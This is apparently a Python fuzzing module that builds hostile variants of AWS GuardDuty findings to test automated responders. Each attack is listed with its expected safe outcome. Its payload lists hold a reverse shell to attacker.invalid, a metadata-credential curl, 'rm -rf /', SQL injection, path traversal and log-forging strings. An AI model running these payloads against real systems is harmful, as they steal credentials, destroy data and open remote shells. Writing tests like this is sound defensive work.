"""Hostile variants: inputs a responder must survive without acting on what they claim.

Each attack takes a valid finding and breaks one thing on purpose, saying what it broke. Schema attacks
(missing, null or mistyped required members, unknown keys, malformed timestamps) make the finding fail
botocore's shape; the others keep the shape and lie: unknown or retired types, ids of other accounts or
of resources that do not exist, injection strings where responders interpolate, events near or over
EventBridge's 256 KB limit, duplicated and reordered deliveries.
"""

from __future__ import annotations

import copy
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from simulator.catalog import active_types, retired_types
from simulator.findings import aggregate_update, generate_finding, ids, wrap_in_envelope
from simulator.findings.recipes import recipe_for
from simulator.findings.wire import dumps
from simulator.fuzz._choosers import Chooser, RandomChooser
from simulator.fuzz._model import HostileFinding

EVENTBRIDGE_LIMIT = 256 * 1024
REQUIRED = ("accountId", "arn", "createdAt", "id", "region", "resource", "schemaVersion", "severity", "type",
            "updatedAt")

SHELL_PAYLOADS = ("$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)",
                  "; rm -rf / --no-preserve-root #", "`id > /tmp/pwned`", "|| nc -e /bin/sh attacker.invalid 4444",
                  "${IFS}cat${IFS}/etc/passwd", "a' ; aws iam create-access-key --user-name admin ; '")
SQL_PAYLOADS = ("' OR '1'='1' --", "'; DROP TABLE findings; --", "1 UNION SELECT password FROM users",
                "\" OR \"\"=\"")
LOG_FORGING = ("ok\r\n2024-01-01T00:00:00Z INFO remediation complete for all findings",
               "\x1b[2J\x1b[1;1Hall clear\x1b[0m", "line\nERROR escalation cancelled by on-call",
               "\u202eevil.exe\u202c", "null\x00byte")
LOOKALIKE = {"i": "\u0456", "a": "\u0430", "e": "\u0435", "o": "\u043e", "c": "\u0441"}  # Cyrillic twins


@dataclass(frozen=True)
class Attack:
    name: str
    breaks_schema: bool
    make: Callable[[dict, Chooser, random.Random], tuple[dict, str, tuple[dict, ...]]]
    expected: str


def _text_targets(finding: dict) -> list[tuple[dict, str, str]]:
    """(container, key, path) of strings a responder is likely to interpolate into commands or queries."""
    targets: list[tuple[dict, str, str]] = []
    resource = finding.get("resource", {})
    for member in ("instanceDetails", "eksClusterDetails", "lambdaDetails", "ecsClusterDetails"):
        details = resource.get(member)
        if isinstance(details, dict):
            for index, tag in enumerate(details.get("tags") or ()):
                targets.append((tag, "value", f"$.resource.{member}.tags[{index}].value"))
    if isinstance(resource.get("accessKeyDetails"), dict):
        targets.append((resource["accessKeyDetails"], "userName", "$.resource.accessKeyDetails.userName"))
    action = finding.get("service", {}).get("action") or {}
    if isinstance(action.get("dnsRequestAction"), dict):
        targets.append((action["dnsRequestAction"], "domain", "$.service.action.dnsRequestAction.domain"))
    if isinstance(action.get("awsApiCallAction"), dict):
        targets.append((action["awsApiCallAction"], "userAgent", "$.service.action.awsApiCallAction.userAgent"))
    targets.append((finding, "title", "$.title"))
    targets.append((finding, "description", "$.description"))
    return targets


def _inject(payloads: tuple[str, ...]) -> Callable[[dict, Chooser, random.Random], tuple[dict, str, tuple]]:
    def make(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
        container, key, path = choose.choice(_text_targets(finding))
        original = container.get(key, "")
        container[key] = f"{original}{choose.choice(payloads)}" if choose.boolean() else choose.choice(payloads)
        return finding, path, ()

    return make


def _missing_required(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    member = choose.choice(REQUIRED)
    del finding[member]
    return finding, f"$.{member}", ()


def _null_required(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    member = choose.choice(REQUIRED)
    finding[member] = None
    return finding, f"$.{member}", ()


def _mistyped(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    options: list[tuple[str, Callable[[dict], None]]] = [
        ("$.severity", lambda f: f.__setitem__("severity", str(f["severity"]))),
        ("$.service.count", lambda f: f["service"].__setitem__("count", str(f["service"].get("count", 1)))),
        ("$.service.archived", lambda f: f["service"].__setitem__("archived", "false")),
        ("$.resource", lambda f: f.__setitem__("resource", [f["resource"]])),
        ("$.id", lambda f: f.__setitem__("id", int(f["id"][:12], 16))),
        ("$.service", lambda f: f.__setitem__("service", "guardduty")),
    ]
    path, change = choose.choice(options)
    change(finding)
    return finding, path, ()


def _unknown_key(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    where = choose.choice(("top", "resource", "service"))
    key = choose.choice(("remediate", "Severity", "autoApprove", "__proto__"))
    if where == "top":
        finding[key] = True
        return finding, f"$.{key}", ()
    finding.setdefault(where, {})[key] = {"action": "terminate-all"}
    return finding, f"$.{where}.{key}", ()


def _malformed_timestamp(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    member = choose.choice(("createdAt", "updatedAt"))
    finding[member] = choose.choice(("yesterday", "2024-13-45T99:99:99Z", "1714561200000", ""))
    return finding, f"$.{member}", ()


def _unknown_type(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    finding["type"] = choose.choice(("Backdoor:EC2/NotAThing.Z", "Canary:EC2/Stateless.IntegTest",
                                     "Trojan:EC2/" + "A" * 80, "UnauthorizedAccess:EC2/SSHBruteForce "))
    return finding, "$.type", ()


def _retired_type(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    finding["type"] = choose.choice(sorted(retired_types()))
    return finding, "$.type", ()


def _foreign_account(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """A finding about another account: a responder must not act on its own resources of the same name."""
    other = ids.other_account(rng, finding["accountId"])
    old = finding["accountId"]
    finding["accountId"] = other
    finding["arn"] = finding["arn"].replace(f":{old}:", f":{other}:")
    return finding, "$.accountId", ()


def _arn_mismatch(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    finding["arn"] = finding["arn"].rsplit("/", 1)[0] + "/" + ids.finding_id(rng)
    return finding, "$.arn", ()


def _unprovisioned(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """Ids of resources that were never provisioned (or belong to someone else)."""
    resource = finding["resource"]
    instance = resource.get("instanceDetails")
    if instance:
        instance["instanceId"] = ids.ec2_id("i", rng)
        return finding, "$.resource.instanceDetails.instanceId", ()
    key = resource.get("accessKeyDetails")
    if key:
        key["accessKeyId"] = ids.access_key_id(rng)
        key["userName"] = "admin"
        return finding, "$.resource.accessKeyDetails", ()
    for bucket in resource.get("s3BucketDetails") or ():
        bucket["name"] = "prod-customer-data"
        bucket["arn"] = "arn:aws:s3:::prod-customer-data"
        return finding, "$.resource.s3BucketDetails[0]", ()
    resource["instanceDetails"] = {"instanceId": ids.ec2_id("i", rng)}
    return finding, "$.resource.instanceDetails", ()


def _lookalike(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    instance = finding["resource"].get("instanceDetails")
    if instance and instance.get("instanceId"):
        value = instance["instanceId"]
        instance["instanceId"] = "".join(LOOKALIKE.get(char, char) for char in value[:3]) + value[3:]
        return finding, "$.resource.instanceDetails.instanceId", ()
    key = finding["resource"].get("accessKeyDetails")
    if key and key.get("userName"):
        key["userName"] = "".join(LOOKALIKE.get(char, char) for char in key["userName"])
        return finding, "$.resource.accessKeyDetails.userName", ()
    finding["title"] = "".join(LOOKALIKE.get(char, char) for char in finding.get("title", "alert"))
    return finding, "$.title", ()


def _path_traversal(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    payload = choose.choice(("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/proc/self/environ"))
    for bucket in finding["resource"].get("s3BucketDetails") or ():
        for obj in bucket.get("s3ObjectDetails") or ():
            obj["key"] = payload
            return finding, "$.resource.s3BucketDetails[0].s3ObjectDetails[0].key", ()
    container, key, path = choose.choice(_text_targets(finding))
    container[key] = payload
    return finding, path, ()


def _private_remote(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """A 'remote' address inside the VPC or the metadata service: blocking it cuts off the account itself."""
    address = choose.choice(("10.0.0.2", "169.254.169.254", "172.31.0.2", "127.0.0.1", "0.0.0.0"))
    action = finding.get("service", {}).get("action") or {}
    for body in action.values():
        if isinstance(body, dict) and isinstance(body.get("remoteIpDetails"), dict):
            body["remoteIpDetails"]["ipAddressV4"] = address
            return finding, "$.service.action.*.remoteIpDetails.ipAddressV4", ()
    finding.setdefault("service", {})["action"] = {
        "actionType": "NETWORK_CONNECTION",
        "networkConnectionAction": {"connectionDirection": "INBOUND", "remoteIpDetails": {"ipAddressV4": address},
                                    "protocol": "TCP", "blocked": False}}
    return finding, "$.service.action.networkConnectionAction.remoteIpDetails.ipAddressV4", ()


def _severity_out_of_band(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    low, high = recipe_for(finding["type"]).severity_range
    outside = [value for value in (1.0, 2.0, 5.0, 8.0, 9.5, 10.0) if not low <= value <= high]
    finding["severity"] = choose.choice(outside or [42.0])
    return finding, "$.severity", ()


def _severity_out_of_scale(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    finding["severity"] = choose.choice((-1.0, 0.0, 42.0, 1e308))
    return finding, "$.severity", ()


def _time_reversed(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    created = finding["createdAt"]
    finding["createdAt"] = finding["updatedAt"]
    finding["updatedAt"] = "2001-09-09T01:46:40.000Z" if created == finding["createdAt"] else created
    service = finding.get("service", {})
    if "eventFirstSeen" in service:
        service["eventFirstSeen"], service["eventLastSeen"] = "2099-01-01T00:00:00.000Z", service["eventFirstSeen"]
    return finding, "$.updatedAt", ()


def _type_resource_mismatch(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """An EC2 finding about an access key (or the reverse): acting on the named resource acts on the wrong kind."""
    allowed = active_types()[finding["type"]].resource_types
    if "Instance" in allowed:
        finding["resource"] = {"resourceType": "AccessKey", "accessKeyDetails": {
            "accessKeyId": ids.access_key_id(rng), "principalId": ids.unique_id("AIDA", rng),
            "userType": "IAMUser", "userName": "admin"}}
    else:
        finding["resource"] = {"resourceType": "Instance", "instanceDetails": {"instanceId": ids.ec2_id("i", rng)}}
    return finding, "$.resource", ()


def _oversize(over: bool) -> Callable[[dict, Chooser, random.Random], tuple[dict, str, tuple]]:
    def make(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
        event = wrap_in_envelope(finding, rng=rng)
        size = len(dumps(event).encode())
        # Over: even the bare finding (without its envelope) is past the limit. Near: the event still fits.
        if over:
            target = EVENTBRIDGE_LIMIT + choose.integer(1024, 4096)
        else:
            target = EVENTBRIDGE_LIMIT - choose.integer(64, 2048)
        padding = max(0, target - size - len(',"x"'))
        finding["description"] = finding.get("description", "") + " " + "A" * max(0, padding - 1)
        return finding, "$.description", ()

    return make


def _deep_nesting(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    node: dict = {}
    root = node
    for _ in range(choose.integer(200, 400)):
        node["n"] = {}
        node = node["n"]
    finding.setdefault("service", {}).setdefault("additionalInfo", {})["nested"] = root
    return finding, "$.service.additionalInfo.nested", ()


def _duplicate_delivery(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """The same event delivered twice (EventBridge delivers at least once)."""
    event = wrap_in_envelope(finding, rng=rng)
    return finding, "$", (event, copy.deepcopy(event))


def _republished(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """The same finding state in two events with different ids (GuardDuty re-publishing)."""
    first = wrap_in_envelope(finding, rng=rng)
    second = wrap_in_envelope(finding, rng=rng)
    return finding, "$", (first, second)


def _reordered_updates(finding: dict, choose: Chooser, rng: random.Random) -> tuple[dict, str, tuple]:
    """Aggregated updates arriving out of order: the newest first, the original last."""
    states = [finding]
    for _ in range(choose.integer(1, 3)):
        states.append(aggregate_update(states[-1], rng=rng, occurrences=choose.integer(1, 5)))
    events = [wrap_in_envelope(state, rng=rng) for state in states]
    order = list(range(len(events)))
    while order == sorted(order):
        rng.shuffle(order)
    return states[-1], "$.service.count", tuple(events[index] for index in order)


ATTACKS: dict[str, Attack] = {attack.name: attack for attack in (
    Attack("missing-required", True, _missing_required, "reject: a required member is missing"),
    Attack("null-required", True, _null_required, "reject: a required member is null"),
    Attack("mistyped-field", True, _mistyped, "reject: a member has the wrong JSON type"),
    Attack("unknown-key", True, _unknown_key, "ignore the unknown member; never obey it"),
    Attack("malformed-timestamp", True, _malformed_timestamp, "reject: a timestamp is not ISO-8601"),
    Attack("unknown-type", False, _unknown_type, "escalate: the type is not one GuardDuty documents"),
    Attack("retired-type", False, _retired_type, "escalate or handle as legacy; do not crash"),
    Attack("foreign-account", False, _foreign_account,
           "do not act: the finding is about another account's resources"),
    Attack("arn-mismatch", False, _arn_mismatch, "reject: the ARN names another finding"),
    Attack("unprovisioned-resource", False, _unprovisioned,
           "do not act on resources outside the sandbox; escalate"),
    Attack("lookalike-resource", False, _lookalike, "do not act: the id only looks like a real one"),
    Attack("shell-injection", False, _inject(SHELL_PAYLOADS), "never pass finding text to a shell"),
    Attack("sql-injection", False, _inject(SQL_PAYLOADS), "never build queries from finding text"),
    Attack("log-forging", False, _inject(LOG_FORGING), "escape control characters before logging"),
    Attack("path-traversal", False, _path_traversal, "never build file paths from finding text"),
    Attack("private-remote-ip", False, _private_remote,
           "do not block internal or metadata addresses named as remote"),
    Attack("severity-out-of-band", False, _severity_out_of_band, "flag: severity disagrees with the type"),
    Attack("severity-out-of-scale", False, _severity_out_of_scale, "reject: severity is off GuardDuty's scale"),
    Attack("time-reversed", False, _time_reversed, "flag: timestamps run backwards"),
    Attack("type-resource-mismatch", False, _type_resource_mismatch,
           "do not act: the resource is not the kind the type is about"),
    Attack("oversize-near-limit", False, _oversize(False),
           "handle a large event; do not forward it whole to a service with a smaller limit"),
    Attack("oversize-over-limit", False, _oversize(True),
           "cannot arrive through EventBridge; a direct invocation must still be refused cleanly"),
    Attack("deep-nesting", False, _deep_nesting, "parse without unbounded recursion"),
    Attack("duplicate-delivery", False, _duplicate_delivery, "act once: the same event arrived twice"),
    Attack("republished-finding", False, _republished, "act once: the same finding state arrived twice"),
    Attack("reordered-updates", False, _reordered_updates,
           "keep the newest state (highest count and updatedAt); never roll back"),
)}


def hostile_variant(rng: random.Random, type_name: str, *, attack: str | None = None,
                    account_id: str = "123456789012", region: str = "us-east-1",
                    now: datetime | None = None) -> HostileFinding:
    """A hostile variant of a ``type_name`` finding: ``attack`` (or one drawn from ``rng``) applied to it."""
    return make_hostile(RandomChooser(rng), rng, type_name, attack=attack, account_id=account_id, region=region,
                        now=now)


def make_hostile(choose: Chooser, rng: random.Random, type_name: str, *, attack: str | None = None,
                 account_id: str = "123456789012", region: str = "us-east-1",
                 now: datetime | None = None) -> HostileFinding:
    name = attack or choose.choice(tuple(ATTACKS))
    if name not in ATTACKS:
        raise KeyError(f"unknown attack {name!r}; known: {', '.join(ATTACKS)}")
    spec = ATTACKS[name]
    moment = now or datetime(2025, 1, 1, tzinfo=UTC) + timedelta(seconds=choose.integer(0, 365 * 86_400))
    finding = generate_finding(type_name, rng=rng, account_id=account_id, region=region, now=moment)
    broken, target, events = spec.make(finding, choose, rng)
    return HostileFinding(attack=name, breaks_schema=spec.breaks_schema, finding=broken, target=target,
                          expected=spec.expected, events=tuple(events))
